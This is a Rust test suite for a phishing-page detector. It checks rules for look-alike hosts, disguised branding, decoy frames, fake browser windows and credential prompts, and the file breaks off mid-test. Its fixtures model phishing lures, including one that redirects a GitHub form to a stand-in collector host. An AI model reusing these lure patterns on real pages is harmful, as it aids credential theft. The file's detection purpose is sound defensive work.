//! Every rule: a page that must trip it and a look-alike page that must not; genuine pages of
//! each provider; ordinary pages that must stay quiet.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a failed unwrap is a failed test

mod support;

use consent_guard::policy::Policy;
use consent_guard::providers::Provider;
use consent_guard::rules::{combine, Engine};
use consent_guard::snapshot::InputKind;
use consent_guard::verdict::{ErrorKind, ErrorReason, EvidenceLabel, Level, PageKind, Severity, Verdict};
use support::*;

fn evaluate(p: &Page) -> Verdict {
    Engine::new(Policy::default()).evaluate(&p.snap, &p.ctx)
}

fn rules(v: &Verdict) -> Vec<&str> {
    v.findings.iter().map(|f| f.rule.as_str()).collect()
}

struct Case {
    name: &'static str,
    page: Page,
    level: Level,
    /// Rule ids that must be among the findings.
    fires: &'static [&'static str],
    /// Rule ids that must not.
    quiet: &'static [&'static str],
}

fn case(
    name: &'static str,
    page: Page,
    level: Level,
    fires: &'static [&'static str],
    quiet: &'static [&'static str],
) -> Case {
    Case { name, page, level, fires, quiet }
}

fn check(cases: Vec<Case>) {
    let engine = Engine::new(Policy::default());
    let mut failures = Vec::new();
    for c in cases {
        let v = engine.evaluate(&c.page.snap, &c.page.ctx);
        let got = rules(&v);
        let missing: Vec<_> = c.fires.iter().filter(|r| !got.contains(r)).collect();
        let unwanted: Vec<_> = c.quiet.iter().filter(|r| got.contains(r)).collect();
        if v.level != c.level || !missing.is_empty() || !unwanted.is_empty() {
            failures.push(format!(
                "{}: level {:?} (want {:?}), missing {:?}, unwanted {:?}; findings {:#?}",
                c.name, v.level, c.level, missing, unwanted, v.findings
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn genuine_pages_of_each_provider() {
    let cases = [
        ("azure-devops", azure_devops_approval(), PageKind::Approval, "Genuine Azure DevOps approval page"),
        ("microsoft", microsoft_sign_in(), PageKind::SignIn, "Genuine Microsoft sign-in page"),
        ("microsoft", microsoft_consent(), PageKind::Approval, "Genuine Microsoft approval page"),
        ("microsoft", live_sign_in(), PageKind::SignIn, "Genuine Microsoft sign-in page"),
        ("github", github_sign_in(), PageKind::SignIn, "Genuine GitHub sign-in page"),
        ("github", github_approval(), PageKind::Approval, "Genuine GitHub approval page"),
        ("github", github_device(), PageKind::SignIn, "Genuine GitHub sign-in page"),
        ("google", google_sign_in(), PageKind::SignIn, "Genuine Google sign-in page"),
        ("google", google_consent(), PageKind::Approval, "Genuine Google approval page"),
    ];
    for (provider, p, kind, summary) in cases {
        let v = evaluate(&p);
        assert_eq!(v.level, Level::Genuine, "{}: {:#?}", p.ctx.url, v);
        assert_eq!(v.provider.as_deref(), Some(provider));
        assert_eq!(v.page, kind, "{}", p.ctx.url);
        assert_eq!(support::summary_text(&v), summary);
        assert!(v.findings.is_empty());
    }
}

#[test]
fn ordinary_pages_stay_quiet() {
    let pages = [
        ("shop login", shop_login()),
        ("OAuth blog post", oauth_blog_post()),
        ("Sign in with Microsoft button", sign_in_with_microsoft_button()),
        ("company SSO", company_sso()),
        ("checkout with card frame", checkout_with_card_frame()),
        ("ice.com", short_domain_login("ice.com")),
        ("box.com", short_domain_login("box.com")),
        ("gitlab.com", short_domain_login("gitlab.com")),
        ("github.com outside sign-in", page("https://github.com/explore").title("Explore GitHub").logo("GitHub")),
        (
            "Microsoft silent sign-in frame",
            page("https://login.microsoftonline.com/common/oauth2/v2.0/authorize?prompt=none&client_id=x")
                .framed_by(&["https://outlook.office.com"]),
        ),
    ];
    for (name, p) in pages {
        let v = evaluate(&p);
        assert_eq!(v.level, Level::None, "{name}: {:#?}", v.findings);
        assert!(v.findings.is_empty(), "{name}: {:#?}", v.findings);
        assert_eq!(support::summary_text(&v), "Not a provider's sign-in or approval page");
    }
}

/// An Azure DevOps approval page copied to another host.
fn devops_copy(url: &str) -> Page {
    let genuine = azure_devops_approval();
    Page { snap: consent_guard::PageSnapshot { url: url.into(), ..genuine.snap }, ctx: page(url).ctx }.form(url, "")
}

/// A Microsoft sign-in copy without Microsoft's own input ids.
fn microsoft_copy(url: &str) -> Page {
    page(url)
        .title("Sign in to your account")
        .logo("Microsoft")
        .heading("Sign in")
        .form(&format!("{url}/next"), "Sign in")
        .email()
        .buttons(&["Next"])
}

#[test]
fn origin_rules() {
    check(vec![
        case(
            "copy on an unrelated host",
            microsoft_copy("https://secure-login.example.net/auth"),
            Level::Danger,
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
            &["origin.content-host", "origin.subdomain-trick"],
        ),
        case(
            "federation button is no claim",
            sign_in_with_microsoft_button().form("https://app.contoso-crm.com/signin", "").password("Password"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "copy on a content host",
            devops_copy("https://devops-auth.azurewebsites.net/oauth2/authorize"),
            Level::Danger,
            &["origin.content-host"],
            &["origin.untrusted-host"],
        ),
        case(
            "blog on a content host quoting the URL",
            Page {
                ctx: page("https://octo.github.io/notes").ctx,
                snap: consent_guard::PageSnapshot {
                    url: "https://octo.github.io/notes".into(),
                    ..oauth_blog_post().snap
                },
            },
            Level::None,
            &[],
            &["origin.content-host"],
        ),
        case(
            "subdomain trick",
            devops_copy("https://app.vssps.visualstudio.com.evil.io/oauth2/authorize"),
            Level::Danger,
            &["origin.subdomain-trick", "lookalike.host"],
            &["origin.untrusted-host"],
        ),
        case(
            "Microsoft's own account site",
            page("https://account.live.com/password/change")
                .logo("Microsoft")
                .heading("Change your password")
                .form("https://account.live.com/password/change", "Current password New password")
                .password("Current password")
                .password("New password"),
            Level::None,
            &[],
            &["origin.untrusted-host", "credentials.prompt-off-origin", "credentials.third-party-password"],
        ),
        case(
            "Azure DevOps settings on dev.azure.com",
            page("https://dev.azure.com/contoso/_settings/adminservices")
                .logo("Azure DevOps")
                .heading("Service connections")
                .form("https://dev.azure.com/contoso/_apis/serviceendpoint", "")
                .password("Password"),
            Level::None,
            &[],
            &["origin.untrusted-host", "https.form-off-provider"],
        ),
        case(
            "copy on a Microsoft content host",
            microsoft_copy("https://onedrive.live.com/view"),
            Level::Danger,
            &["origin.content-host"],
            &[],
        ),
        case(
            "copy on Customer Voice, Microsoft's anyone's-forms host",
            microsoft_copy("https://customervoice.microsoft.com/Pages/ResponsePage.aspx").password("Password"),
            Level::Danger,
            &["origin.content-host"],
            &["origin.untrusted-host"],
        ),
        case(
            "copy on Customer Voice's short-link host",
            microsoft_copy("https://ncv.microsoft.com/r6Xk2pQ9").password("Password"),
            Level::Danger,
            &["origin.content-host"],
            &[],
        ),
        case(
            "a Customer Voice survey asking no password",
            page("https://customervoice.microsoft.com/Pages/ResponsePage.aspx")
                .title("Customer satisfaction survey")
                .logo("Microsoft")
                .heading("How did we do?")
                .form("https://customervoice.microsoft.com/formapi/api/responses", "Rate your visit Comments")
                .buttons(&["Submit"]),
            Level::None,
            &[],
            &["origin.content-host", "origin.untrusted-host"],
        ),
        case(
            "a SharePoint feedback form under Microsoft's header",
            page("https://contoso.sharepoint.com/sites/hr/SitePages/Feedback.aspx")
                .title("Feedback - HR")
                .banner("Microsoft 365 SharePoint")
                .heading("Share your feedback")
                .form("https://contoso.sharepoint.com/_api/web/lists", "Your feedback")
                .buttons(&["Send"]),
            Level::None,
            &[],
            &["origin.content-host"],
        ),
        case(
            "another provider's host in front",
            microsoft_copy("https://github.com.session-check.net/auth"),
            Level::Danger,
            &["origin.untrusted-host", "lookalike.host"],
            &["origin.subdomain-trick"],
        ),
        case(
            "subdomain trick host without a claim",
            page("https://app.vssps.visualstudio.com.evil.io/").title("Welcome"),
            Level::Caution,
            &["lookalike.host"],
            &["origin.subdomain-trick"],
        ),
    ]);
    let v = evaluate(&devops_copy("https://devops-auth.azurewebsites.net/oauth2/authorize"));
    assert_eq!(v.findings[0].params, ["Azure DevOps", "devops-auth.azurewebsites.net"]);
    assert!(support::finding_text(&v.findings[0]).contains("anyone can publish pages"));
    assert_eq!(support::summary_text(&v), "Danger: this page imitates Azure DevOps approval");
    assert_eq!(v.provider.as_deref(), Some("azure-devops"));
    let v = evaluate(&microsoft_copy("https://secure-login.example.net/auth"));
    assert_eq!(support::summary_text(&v), "Danger: this page imitates Microsoft sign-in");
}

#[test]
fn https_rules() {
    let mut http_github = github_sign_in();
    http_github.ctx.url = "http://github.com/login".into();
    http_github.snap.url = "http://github.com/login".into();
    let mut injected = github_sign_in();
    injected.snap.forms[0].action = "https://collect.evil.io/gh".into();
    check(vec![
        case("trusted host over http", http_github, Level::Danger, &["https.not-https"], &[]),
        case(
            "ordinary http page",
            page("http://example.com/").title("Example"),
            Level::None,
            &[],
            &["https.not-https"],
        ),
        case(
            "certificate error on a trusted host",
            microsoft_sign_in().cert_error("net::ERR_CERT_AUTHORITY_INVALID"),
            Level::Danger,
            &["https.certificate-error"],
            &[],
        ),
        case(
            "certificate error on a page that asks for a password",
            shop_login().cert_error("net::ERR_CERT_DATE_INVALID"),
            Level::Danger,
            &["https.certificate-error"],
            &[],
        ),
        case(
            "certificate error on an intranet page that asks for nothing",
            page("https://wiki.intranet.example/").title("Team wiki").heading("Release notes"),
            Level::None,
            &[],
            &["https.certificate-error"],
        ),
        case(
            "shop form posting over http: a login that imitates nobody is not ours to flag",
            shop_login().form("http://shop.example.com/login", "").password("Password"),
            Level::None,
            &[],
            &["https.form-posts-http"],
        ),
        case("shop form posting over https", shop_login(), Level::None, &[], &["https.form-posts-http"]),
        case(
            "copy posting over http",
            microsoft_copy("https://m365-portal.example.net")
                .form("http://m365-portal.example.net/p", "")
                .password("Password"),
            Level::Danger,
            &["https.form-posts-http"],
            &[],
        ),
        case("genuine page posting elsewhere", injected, Level::Danger, &["https.form-off-provider"], &[]),
        case("genuine page posting to itself", github_sign_in(), Level::Genuine, &[], &["https.form-off-provider"]),
    ]);
    let v = evaluate(
        &microsoft_copy("https://m365-portal.example.net")
            .form("http://m365-portal.example.net/p", "")
            .password("Password"),
    );
    assert_eq!(
        v.findings.iter().find(|f| f.rule.as_str() == "https.form-posts-http").unwrap().severity,
        Severity::Danger
    );
}

#[test]
fn branding_rules() {
    let disguised_approval = page("https://devops.example.org/oauth2/authorize")
        .logo("Azure Dev\u{039F}ps")
        .text("Octo wants permission to access your resources")
        .buttons(&["Accept", "Deny"]);
    check(vec![
        case(
            "Greek Omicron in the brand with an approval",
            disguised_approval,
            Level::Danger,
            &["branding.disguised", "origin.untrusted-host"],
            &[],
        ),
        case(
            "Cyrillic o's in a heading, nothing asked",
            page("https://news.example.org/").heading("G\u{043E}\u{043E}gle"),
            Level::Caution,
            &["branding.disguised"],
            &[],
        ),
        case(
            "zero-width space inside the brand",
            page("https://news.example.org/").heading("Micro\u{200B}soft"),
            Level::Caution,
            &["branding.disguised"],
            &[],
        ),
        case("plain brand in a blog heading", oauth_blog_post(), Level::None, &[], &["branding.disguised"]),
        case(
            "brand in full-width letters is a plain claim",
            page("https://news.example.org/").heading("ＧｉｔＨｕｂ"),
            Level::None,
            &[],
            &["branding.disguised"],
        ),
    ]);
}

#[test]
fn what_makes_a_claim() {
    let login = |host: &str| page(&format!("https://{host}/login")).form(&format!("https://{host}/login"), "").email();
    check(vec![
        case(
            "a product name standing alone with a password",
            login("mail-portal.example.net").heading("Sign in to Outlook").password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "Office365 written as one word",
            login("mail-portal.example.net").title("Office365 Login").password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a lock screen drawn in the page, titled Windows, asking for a password",
            page("https://session-resume.example/lock/")
                .form("https://session-resume.example/lock/unlock", "")
                .title("Windows")
                .text_line("a.kovac@outlook.com")
                .password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "Windows as the title's whole part, beside the site's name",
            login("desk.example.net").title("Windows \u{2013} Session Desk").password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "Windows with sign-in wording as the title, asking for the account's password",
            login("device-unlock.example.com")
                .title("Windows Sign-in")
                .text_line("Your PIN is no longer available due to a change to the security settings on this device. Enter your Microsoft account password to set up your PIN again.")
                .password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a mail service's own second step shows the person's outlook.com address",
            page("https://mail.tinmouse.example/login")
                .form("https://mail.tinmouse.example/login", "Enter password for a.kovac@outlook.com Your Tinmouse password")
                .title("Tinmouse Mail")
                .password("Password"),
            Level::None,
            &[],
            &["credentials.third-party-password"],
        ),
        case(
            "a password box labelled for the Outlook account beside an address",
            page("https://mail.tinmouse.example/login")
                .form("https://mail.tinmouse.example/login", "a.kovac@outlook.com Enter your Outlook password")
                .title("Tinmouse Mail")
                .password("Password"),
            Level::Danger,
            &["credentials.third-party-password"],
            &[],
        ),
        case(
            "a line asking for the Microsoft account password, the title naming nothing",
            login("device-unlock.example.com")
                .title("Unlock")
                .text_line("Your PIN is no longer available due to a change to the security settings on this device. Enter your Microsoft account password to set up your PIN again.")
                .password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a line warning never to enter the Microsoft account password elsewhere",
            login("desk.example.net")
                .title("Sign in to Fabrikam Desk")
                .text_line("Never enter your Microsoft account password on another site.")
                .password("Password"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a college IT page about keeping the Microsoft password safe, beside its help-desk login",
            page("https://it.brennan-college.edu/help/passwords/")
                .form("https://it.brennan-college.edu/help/portal/login", "Help desk username Help desk password")
                .title("Keeping your Microsoft password safe \u{2013} Brennan College IT")
                .banner("Brennan College IT Services")
                .heading("Keeping your Microsoft password safe")
                .heading("Help desk portal")
                .banner("Keeping your Microsoft password safe")
                .text_line("Your college Microsoft account (you@brennan-college.edu) opens email, Teams and OneDrive. Never type your Microsoft password anywhere except login.microsoftonline.com. The college will never ask for it by email, chat or phone.")
                .text_line("If a page that is not Microsoft\u{2019}s asks you to \u{201c}sign in with your Microsoft account password to continue\u{201d}, close it and report it to the help desk. If you typed it already, change it at once at aka.ms/sspr and tell us.")
                .text_line("The help desk portal on the right uses its own account, not your Microsoft password.")
                .input(InputKind::Identifier, "", "hd_user", "")
                .input(InputKind::Password, "", "hd_pass", ""),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "the same page asking, unquoted, to sign in with the Microsoft account password",
            page("https://it.brennan-college.edu/help/passwords/")
                .form("https://it.brennan-college.edu/help/portal/login", "Help desk username Help desk password")
                .title("Keeping your Microsoft password safe \u{2013} Brennan College IT")
                .banner("Brennan College IT Services")
                .heading("Keeping your Microsoft password safe")
                .heading("Help desk portal")
                .text_line("To continue, sign in with your Microsoft account password below.")
                .input(InputKind::Identifier, "", "hd_user", "")
                .input(InputKind::Password, "", "hd_pass", ""),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "Windows named inside a title's part, and as a key to press",
            login("vpn.example.net")
                .title("Download for Windows \u{2013} Ashcombe VPN")
                .heading("Sign in to Ashcombe VPN")
                .text_line("Windows")
                .text_line("Press Windows + R to open Run")
                .password("Password"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a product name inside another company's name",
            login("outlook-furniture.com").heading("Outlook Furniture").password("Password"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "buttons that are just a provider's name on another sign-in page",
            login("gitlab.example.org")
                .title("Sign in · GitLab")
                .logo_in("GitHub", "GitHub")
                .logo_in("Google", "Google")
                .password("Password"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a logo in a link with more words is still a claim",
            login("gitlab.example.org").logo_in("GitHub", "GitHub Enterprise portal").password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a vault item with a read-only filled password box",
            page("https://vault.example.com/")
                .heading("Microsoft")
                .input(InputKind::Identifier, "login-username", "", "Username")
                .read_only()
                .password("Password")
                .read_only(),
            Level::None,
            &[],
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
        ),
        case(
            "the same box when it can be typed in",
            page("https://vault.example.com/")
                .heading("Microsoft")
                .input(InputKind::Identifier, "login-username", "", "Username")
                .password("Password"),
            Level::Danger,
            &["credentials.prompt-off-origin"],
            &[],
        ),
        case(
            "a newsletter box on a fan site",
            page("https://microsoftedgetips.example/").banner("Microsoft Edge Tips").email().buttons(&["Subscribe"]),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a product page's trial sign-up beside a heading naming the provider",
            page("https://www.prpilot.app/").title("PR Pilot").heading("GitHub").email().buttons(&["Start free trial"]),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "the same box with Next",
            page("https://www.prpilot.app/")
                .title("PR Pilot")
                .heading("GitHub")
                .email()
                .buttons(&["Start free trial", "Next"]),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a contact form (name, e-mail, message) on a Google Sites page that names Google",
            gsites_help().textarea("Message").buttons(&["Send"]),
            Level::None,
            &[],
            &["origin.content-host"],
        ),
        case(
            "the same page's e-mail box with no message box",
            gsites_help().buttons(&["Send"]),
            Level::Danger,
            &["origin.content-host"],
            &[],
        ),
        case(
            "the same page with a message box in another form",
            gsites_help().form("https://sites.google.com/view/maplewood-tech/search", "Search").textarea("Search"),
            Level::Danger,
            &["origin.content-host"],
            &[],
        ),
        case(
            "a message box beside an e-mail and a password",
            gsites_help().password("Password").textarea("Message").buttons(&["Send"]),
            Level::Danger,
            &["origin.content-host"],
            &[],
        ),
        case(
            "a message box in an e-mail step's form that goes on with Next",
            gsites_help().textarea("Note").buttons(&["Next"]),
            Level::Danger,
            &["origin.content-host"],
            &[],
        ),
        case(
            "a message box in a form headed as a sign-in",
            gsites_help().heading("Sign in to Google Workspace").textarea("Message").buttons(&["Send"]),
            Level::Danger,
            &["origin.content-host"],
            &[],
        ),
        case(
            "a content host's lure asking for the work e-mail to view a document, a comment box beside it",
            page("https://sites.google.com/view/shared-invoice-4471/home")
                .heading("Google Drive")
                .text_line("Enter your work e-mail to view the document")
                .form("https://sites.google.com/view/shared-invoice-4471/home", "Email")
                .email()
                .form("https://sites.google.com/view/shared-invoice-4471/home", "Comment")
                .textarea("Leave a comment")
                .buttons(&["Next"]),
            Level::Danger,
            &["origin.content-host"],
            &[],
        ),
        case(
            "an e-mail step with Next on the same site",
            page("https://microsoftedgetips.example/")
                .banner("Microsoft Edge Tips")
                .email()
                .buttons(&["Subscribe", "Next"]),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
    ]);
}

#[test]
fn credential_rules() {
    let github_copy = page("https://github-login.example.com/login")
        .title("Sign in to GitHub · GitHub")
        .form("https://github-login.example.com/session", "")
        .email()
        .password("Password");
    let third_party = page("https://repo-sync.example.com/connect")
        .title("Connect your repositories")
        .heading("Connect your repositories")
        .form("https://repo-sync.example.com/connect", "Import from GitHub")
        .email()
        .password("Your GitHub password");
    let account_password = page("https://mail-upgrade.example.com/")
        .form("https://mail-upgrade.example.com/", "Microsoft account password")
        .password("");
    let token_field = page("https://ci.example.com/settings").form("https://ci.example.com/settings", "").input(
        InputKind::Password,
        "token",
        "token",
        "GitHub personal access token",
    );
    let mut devops_with_password = azure_devops_approval().password("Password");
    devops_with_password.snap.title = "Authorize application".into();
    check(vec![
        case(
            "copy asks for credentials",
            github_copy,
            Level::Danger,
            &["credentials.prompt-off-origin"],
            &["credentials.third-party-password"],
        ),
        case("shop asks for its own password", shop_login(), Level::None, &[], &["credentials.prompt-off-origin"]),
        case(
            "third party asks for the GitHub password",
            third_party,
            Level::Danger,
            &["credentials.third-party-password"],
            &["credentials.prompt-off-origin"],
        ),
        case(
            "third party asks for the Microsoft account password",
            account_password,
            Level::Danger,
            &["credentials.third-party-password"],
            &[],
        ),
        case(
            "federation text next to a password field",
            shop_login()
                .form("https://shop.example.com/login", "Sign in with GitHub or use your password")
                .password("Password"),
            Level::None,
            &[],
            &["credentials.third-party-password"],
        ),
        case(
            "token field names GitHub but no password",
            token_field,
            Level::None,
            &[],
            &["credentials.third-party-password"],
        ),
        case(
            "password on the Azure DevOps approval page",
            devops_with_password,
            Level::Danger,
            &["credentials.on-approval-page"],
            &[],
        ),
        case(
            "password on GitHub's authorize URL (sign-in first)",
            github_approval().form("https://github.com/session", "").email().password("Password"),
            Level::Genuine,
            &[],
            &["credentials.on-approval-page"],
        ),
    ]);
}

#[test]
fn lookalike_rules() {
    check(vec![
        case(
            "typosquat alone: no badge",
            page("https://githb.com/").title("Welcome"),
            Level::None,
            &[],
            &["lookalike.host"],
        ),
        case(
            "combosquat with a password field",
            short_domain_login("microsoftonline-auth.com"),
            Level::Danger,
            &["lookalike.host-asks"],
            &["lookalike.host"],
        ),
        case(
            "look-alike letters with a password field, no provider named",
            short_domain_login("g00gie.com"),
            Level::Danger,
            &["lookalike.host-asks"],
            &[],
        ),
        case(
            "a short name with a letter doubled and a password field",
            short_domain_login("liive.com"),
            Level::Danger,
            &["lookalike.host-asks"],
            &[],
        ),
        case(
            "a brand joined with a sign-in word in another domain's subdomain",
            short_domain_login("github-login.example-ci.net"),
            Level::Danger,
            &["lookalike.host-asks"],
            &[],
        ),
        case("hive.com is not live.com", short_domain_login("hive.com"), Level::None, &[], &["lookalike.host-asks"]),
        case(
            "gitbook.com is not github.com",
            short_domain_login("gitbook.com"),
            Level::None,
            &[],
            &["lookalike.host-asks"],
        ),
        case(
            "an enterprise server under the brand's name",
            short_domain_login("github.example-corp.com"),
            Level::None,
            &[],
            &["lookalike.host-asks"],
        ),
        case(
            "combosquat alone: no badge",
            page("https://githubstats-oauth.io/").title("Repository stats"),
            Level::None,
            &[],
            &["lookalike.host"],
        ),
        case(
            "an ordinary brand word beside another word, with a login",
            short_domain_login("outlook-furniture.com"),
            Level::None,
            &[],
            &["lookalike.host"],
        ),
        case(
            "typosquat with a password field",
            short_domain_login("githb.com"),
            Level::Danger,
            &["lookalike.host-asks"],
            &[],
        ),
        case(
            "homograph with a brand claim",
            page("https://accounts.xn--ggle-55da.com/signin").logo("Google").email(),
            Level::Danger,
            &["lookalike.host", "origin.untrusted-host"],
            &[],
        ),
        case("ice.com is not live.com", short_domain_login("ice.com"), Level::None, &[], &["lookalike.host"]),
        case("box.com is not xbox.com", short_domain_login("box.com"), Level::None, &[], &["lookalike.host"]),
        case("gitlab.com is not github.com", short_domain_login("gitlab.com"), Level::None, &[], &["lookalike.host"]),
    ]);
    let v = evaluate(&page("https://login-microsoftonline.com/").title("Welcome"));
    assert_eq!(v.findings[0].severity, Severity::Caution, "hyphens for dots are made to deceive");
    assert_eq!(v.provider.as_deref(), Some("microsoft"));
}

#[test]
fn framing_rules() {
    check(vec![
        case(
            "approval page in another site's frame",
            github_approval().framed_by(&["https://prizes.example.com"]),
            Level::Danger,
            &["framing.genuine-in-frame"],
            &[],
        ),
        case(
            "sign-in frame of unknown parent",
            microsoft_sign_in().framed_by(&[]),
            Level::Caution,
            &["framing.genuine-in-frame"],
            &[],
        ),
        case(
            "silent sign-in frame without UI",
            page("https://login.microsoftonline.com/common/oauth2/v2.0/authorize?prompt=none")
                .framed_by(&["https://outlook.office.com"]),
            Level::None,
            &[],
            &["framing.genuine-in-frame"],
        ),
        case(
            "sign-in frame inside the provider's own page",
            microsoft_sign_in().framed_by(&["https://login.microsoftonline.com"]),
            Level::None,
            &[],
            &["framing.genuine-in-frame"],
        ),
        case(
            "see-through approval frame",
            page("https://prizes.example.com/").heading("Click to win").frame(
                "https://github.com/login/oauth/authorize?client_id=x",
                900.0,
                700.0,
                0.01,
                true,
            ),
            Level::Danger,
            &["framing.decoy-frame"],
            &[],
        ),
        case(
            "tiny approval frame",
            page("https://prizes.example.com/").frame(
                "https://app.vssps.visualstudio.com/oauth2/authorize?client_id=x",
                90.0,
                30.0,
                1.0,
                true,
            ),
            Level::Danger,
            &["framing.decoy-frame"],
            &[],
        ),
        case(
            "hidden silent sign-in frame",
            page("https://outlook.example.com/").frame(
                "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?prompt=none",
                0.0,
                0.0,
                1.0,
                false,
            ),
            Level::None,
            &[],
            &["framing.decoy-frame"],
        ),
        case("visible card frame", checkout_with_card_frame(), Level::None, &[], &["framing.decoy-frame"]),
        case(
            "visible sign-in frame at full size",
            page("https://portal.example.com/").frame(
                "https://login.microsoftonline.com/common/oauth2/v2.0/authorize",
                500.0,
                600.0,
                1.0,
                true,
            ),
            Level::None,
            &[],
            &["framing.decoy-frame"],
        ),
    ]);
}

#[test]
fn browser_in_the_browser_rules() {
    check(vec![
        case(
            "fake window with Google's address",
            page("https://free-games.example.com/")
                .heading("Play now")
                .positioned("https://accounts.google.com/signin/v2/identifier", true),
            Level::Danger,
            &["bitb.fake-window"],
            &[],
        ),
        case(
            "fake window with a lookalike address",
            page("https://free-games.example.com/")
                .password("Password")
                .positioned("accounts.gooogle.com/o/oauth2/auth", false),
            Level::Danger,
            &["bitb.fake-window"],
            &[],
        ),
        case(
            "sticky bar showing a URL, no form",
            oauth_blog_post().positioned("https://app.vssps.visualstudio.com/oauth2/authorize", false),
            Level::None,
            &[],
            &["bitb.fake-window"],
        ),
        case(
            "fake window text with an unrelated URL",
            page("https://free-games.example.com/").email().positioned("https://free-games.example.com/login", true),
            Level::None,
            &[],
            &["bitb.fake-window"],
        ),
    ]);
}

/// A copy of Google's sign-in form known by its field names and wording, whatever logo the copy
/// draws: a window in a dialog under "Sign in with Google" whose logo is a drawing of its own.
/// A site's own form that shares one field name and the wording does not claim Google.
#[test]
fn a_copy_of_a_sign_in_form_by_its_markup_and_wording() {
    let window = |password_name: &str, password_label: &str| {
        let form_text = format!("Email or phone {password_label}");
        page("https://tripsplit-deals.example/")
            .title("TripSplit – save on group trips")
            .heading("TripSplit")
            .card("Continue with Google\nNext")
            .heading("Sign in")
            .card("Next")
            .text_line("Sign in with Google")
            .text("TripSplit\nSplit costs with friends. Continue with Google\nSign in with Google\nSign in\nto continue to TripSplit\nNext")
            .buttons(&["Continue with Google", "Next"])
            .form("https://tripsplit-deals.example/oauth/cb", &form_text)
            .input(InputKind::Identifier, "", "identifier", "Email or phone")
            .input(InputKind::Password, "", password_name, password_label)
    };
    check(vec![
        case(
            "Google's field names and wording in a window of the page's own",
            window("Passwd", "Enter your password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the site's own form with one of those names and the wording",
            window("password", "Enter your password"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "both names with one phrase of the wording",
            window("Passwd", "Password"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
    ]);
}

#[test]
fn proxy_rules() {
    let relay = page("https://portal.contoso-mail.com/common/oauth2/v2.0/authorize")
        .title("Sign in to your account")
        .input(InputKind::Identifier, "i0116", "loginfmt", "Email")
        .script_without_integrity("https://aadcdn.msftauth.net/shared/1.0/content/js/ConvergedLogin.js");
    let cdn_copy = page("https://secure.example-hr.com/")
        .title("Sign in to your account")
        .email()
        .resources(&["aadcdn.msftauth.net"]);
    let federation_logo = sign_in_with_microsoft_button()
        .form("https://app.contoso-crm.com/session", "")
        .email()
        .password("Password")
        .resources(&["aadcdn.msftauth.net", "github.githubassets.com", "ssl.gstatic.com"]);
    let recaptcha_shop = shop_login().resources(&["www.gstatic.com"]);
    check(vec![
        case("Microsoft's input ids on another host", relay, Level::Danger, &["proxy.page-markers"], &[]),
        case(
            "a common input name only",
            shop_login().input(InputKind::Password, "passwd", "passwd", "Password"),
            Level::None,
            &[],
            &["proxy.page-markers"],
        ),
        case("Microsoft's sign-in CDN and a credential prompt", cdn_copy, Level::Danger, &["proxy.asset-hosts"], &[]),
        case("reCAPTCHA from gstatic on a shop login", recaptcha_shop, Level::None, &[], &["proxy.asset-hosts"]),
        case(
            "federation buttons with logos from the providers' CDNs",
            federation_logo,
            Level::None,
            &[],
            &["proxy.asset-hosts"],
        ),
        case(
            "Microsoft's CDN without a credential prompt",
            page("https://docs.example.com/").resources(&["aadcdn.msftauth.net"]),
            Level::None,
            &[],
            &["proxy.asset-hosts"],
        ),
    ]);
    let v = evaluate(
        &page("https://portal.contoso-mail.com/")
            .input(InputKind::Identifier, "i0116", "loginfmt", "Email")
            .script_without_integrity("https://aadcdn.msftauth.net/x.js"),
    );
    let f = v.findings.iter().find(|f| f.rule.as_str() == "proxy.page-markers").unwrap();
    assert!(f.evidence.iter().any(|e| e.label == EvidenceLabel::Script), "{:?}", f.evidence);
}

#[test]
fn unverifiable_trusted_page_is_never_genuine() {
    check(vec![
        case(
            "empty snapshot on GitHub's sign-in page",
            github_sign_in().unread(),
            Level::Caution,
            &["verify.incomplete"],
            &[],
        ),
        case(
            "snapshot of another origin",
            Page { ctx: page("https://github.com/login").ctx, snap: shop_login().snap },
            Level::Caution,
            &["verify.incomplete"],
            &[],
        ),
        case("readable GitHub sign-in page", github_sign_in(), Level::Genuine, &[], &["verify.incomplete"]),
    ]);
}

#[test]
fn organisation_providers_come_from_policy() {
    let policy: Policy = serde_json::from_value(serde_json::json!({
        "customProviders": [{
            "id": "contoso-idp",
            "name": "Contoso ID",
            "brandTerms": ["Contoso ID"],
            "origins": ["https://id.contoso.com"],
            "signInPaths": ["/login"],
            "markers": { "inputs": ["contoso-user"] }
        }]
    }))
    .unwrap();
    let engine = Engine::new(policy);
    assert!(engine.providers().any(|p: &Provider| p.id == "github"));
    let genuine = page("https://id.contoso.com/login").logo("Contoso ID").email().password("Password");
    let v = engine.evaluate(&genuine.snap, &genuine.ctx);
    assert_eq!((v.level, v.provider.as_deref()), (Level::Genuine, Some("contoso-idp")), "{v:#?}");
    let copy = page("https://id-contoso.example.net/login").logo("Contoso ID").email().password("Password");
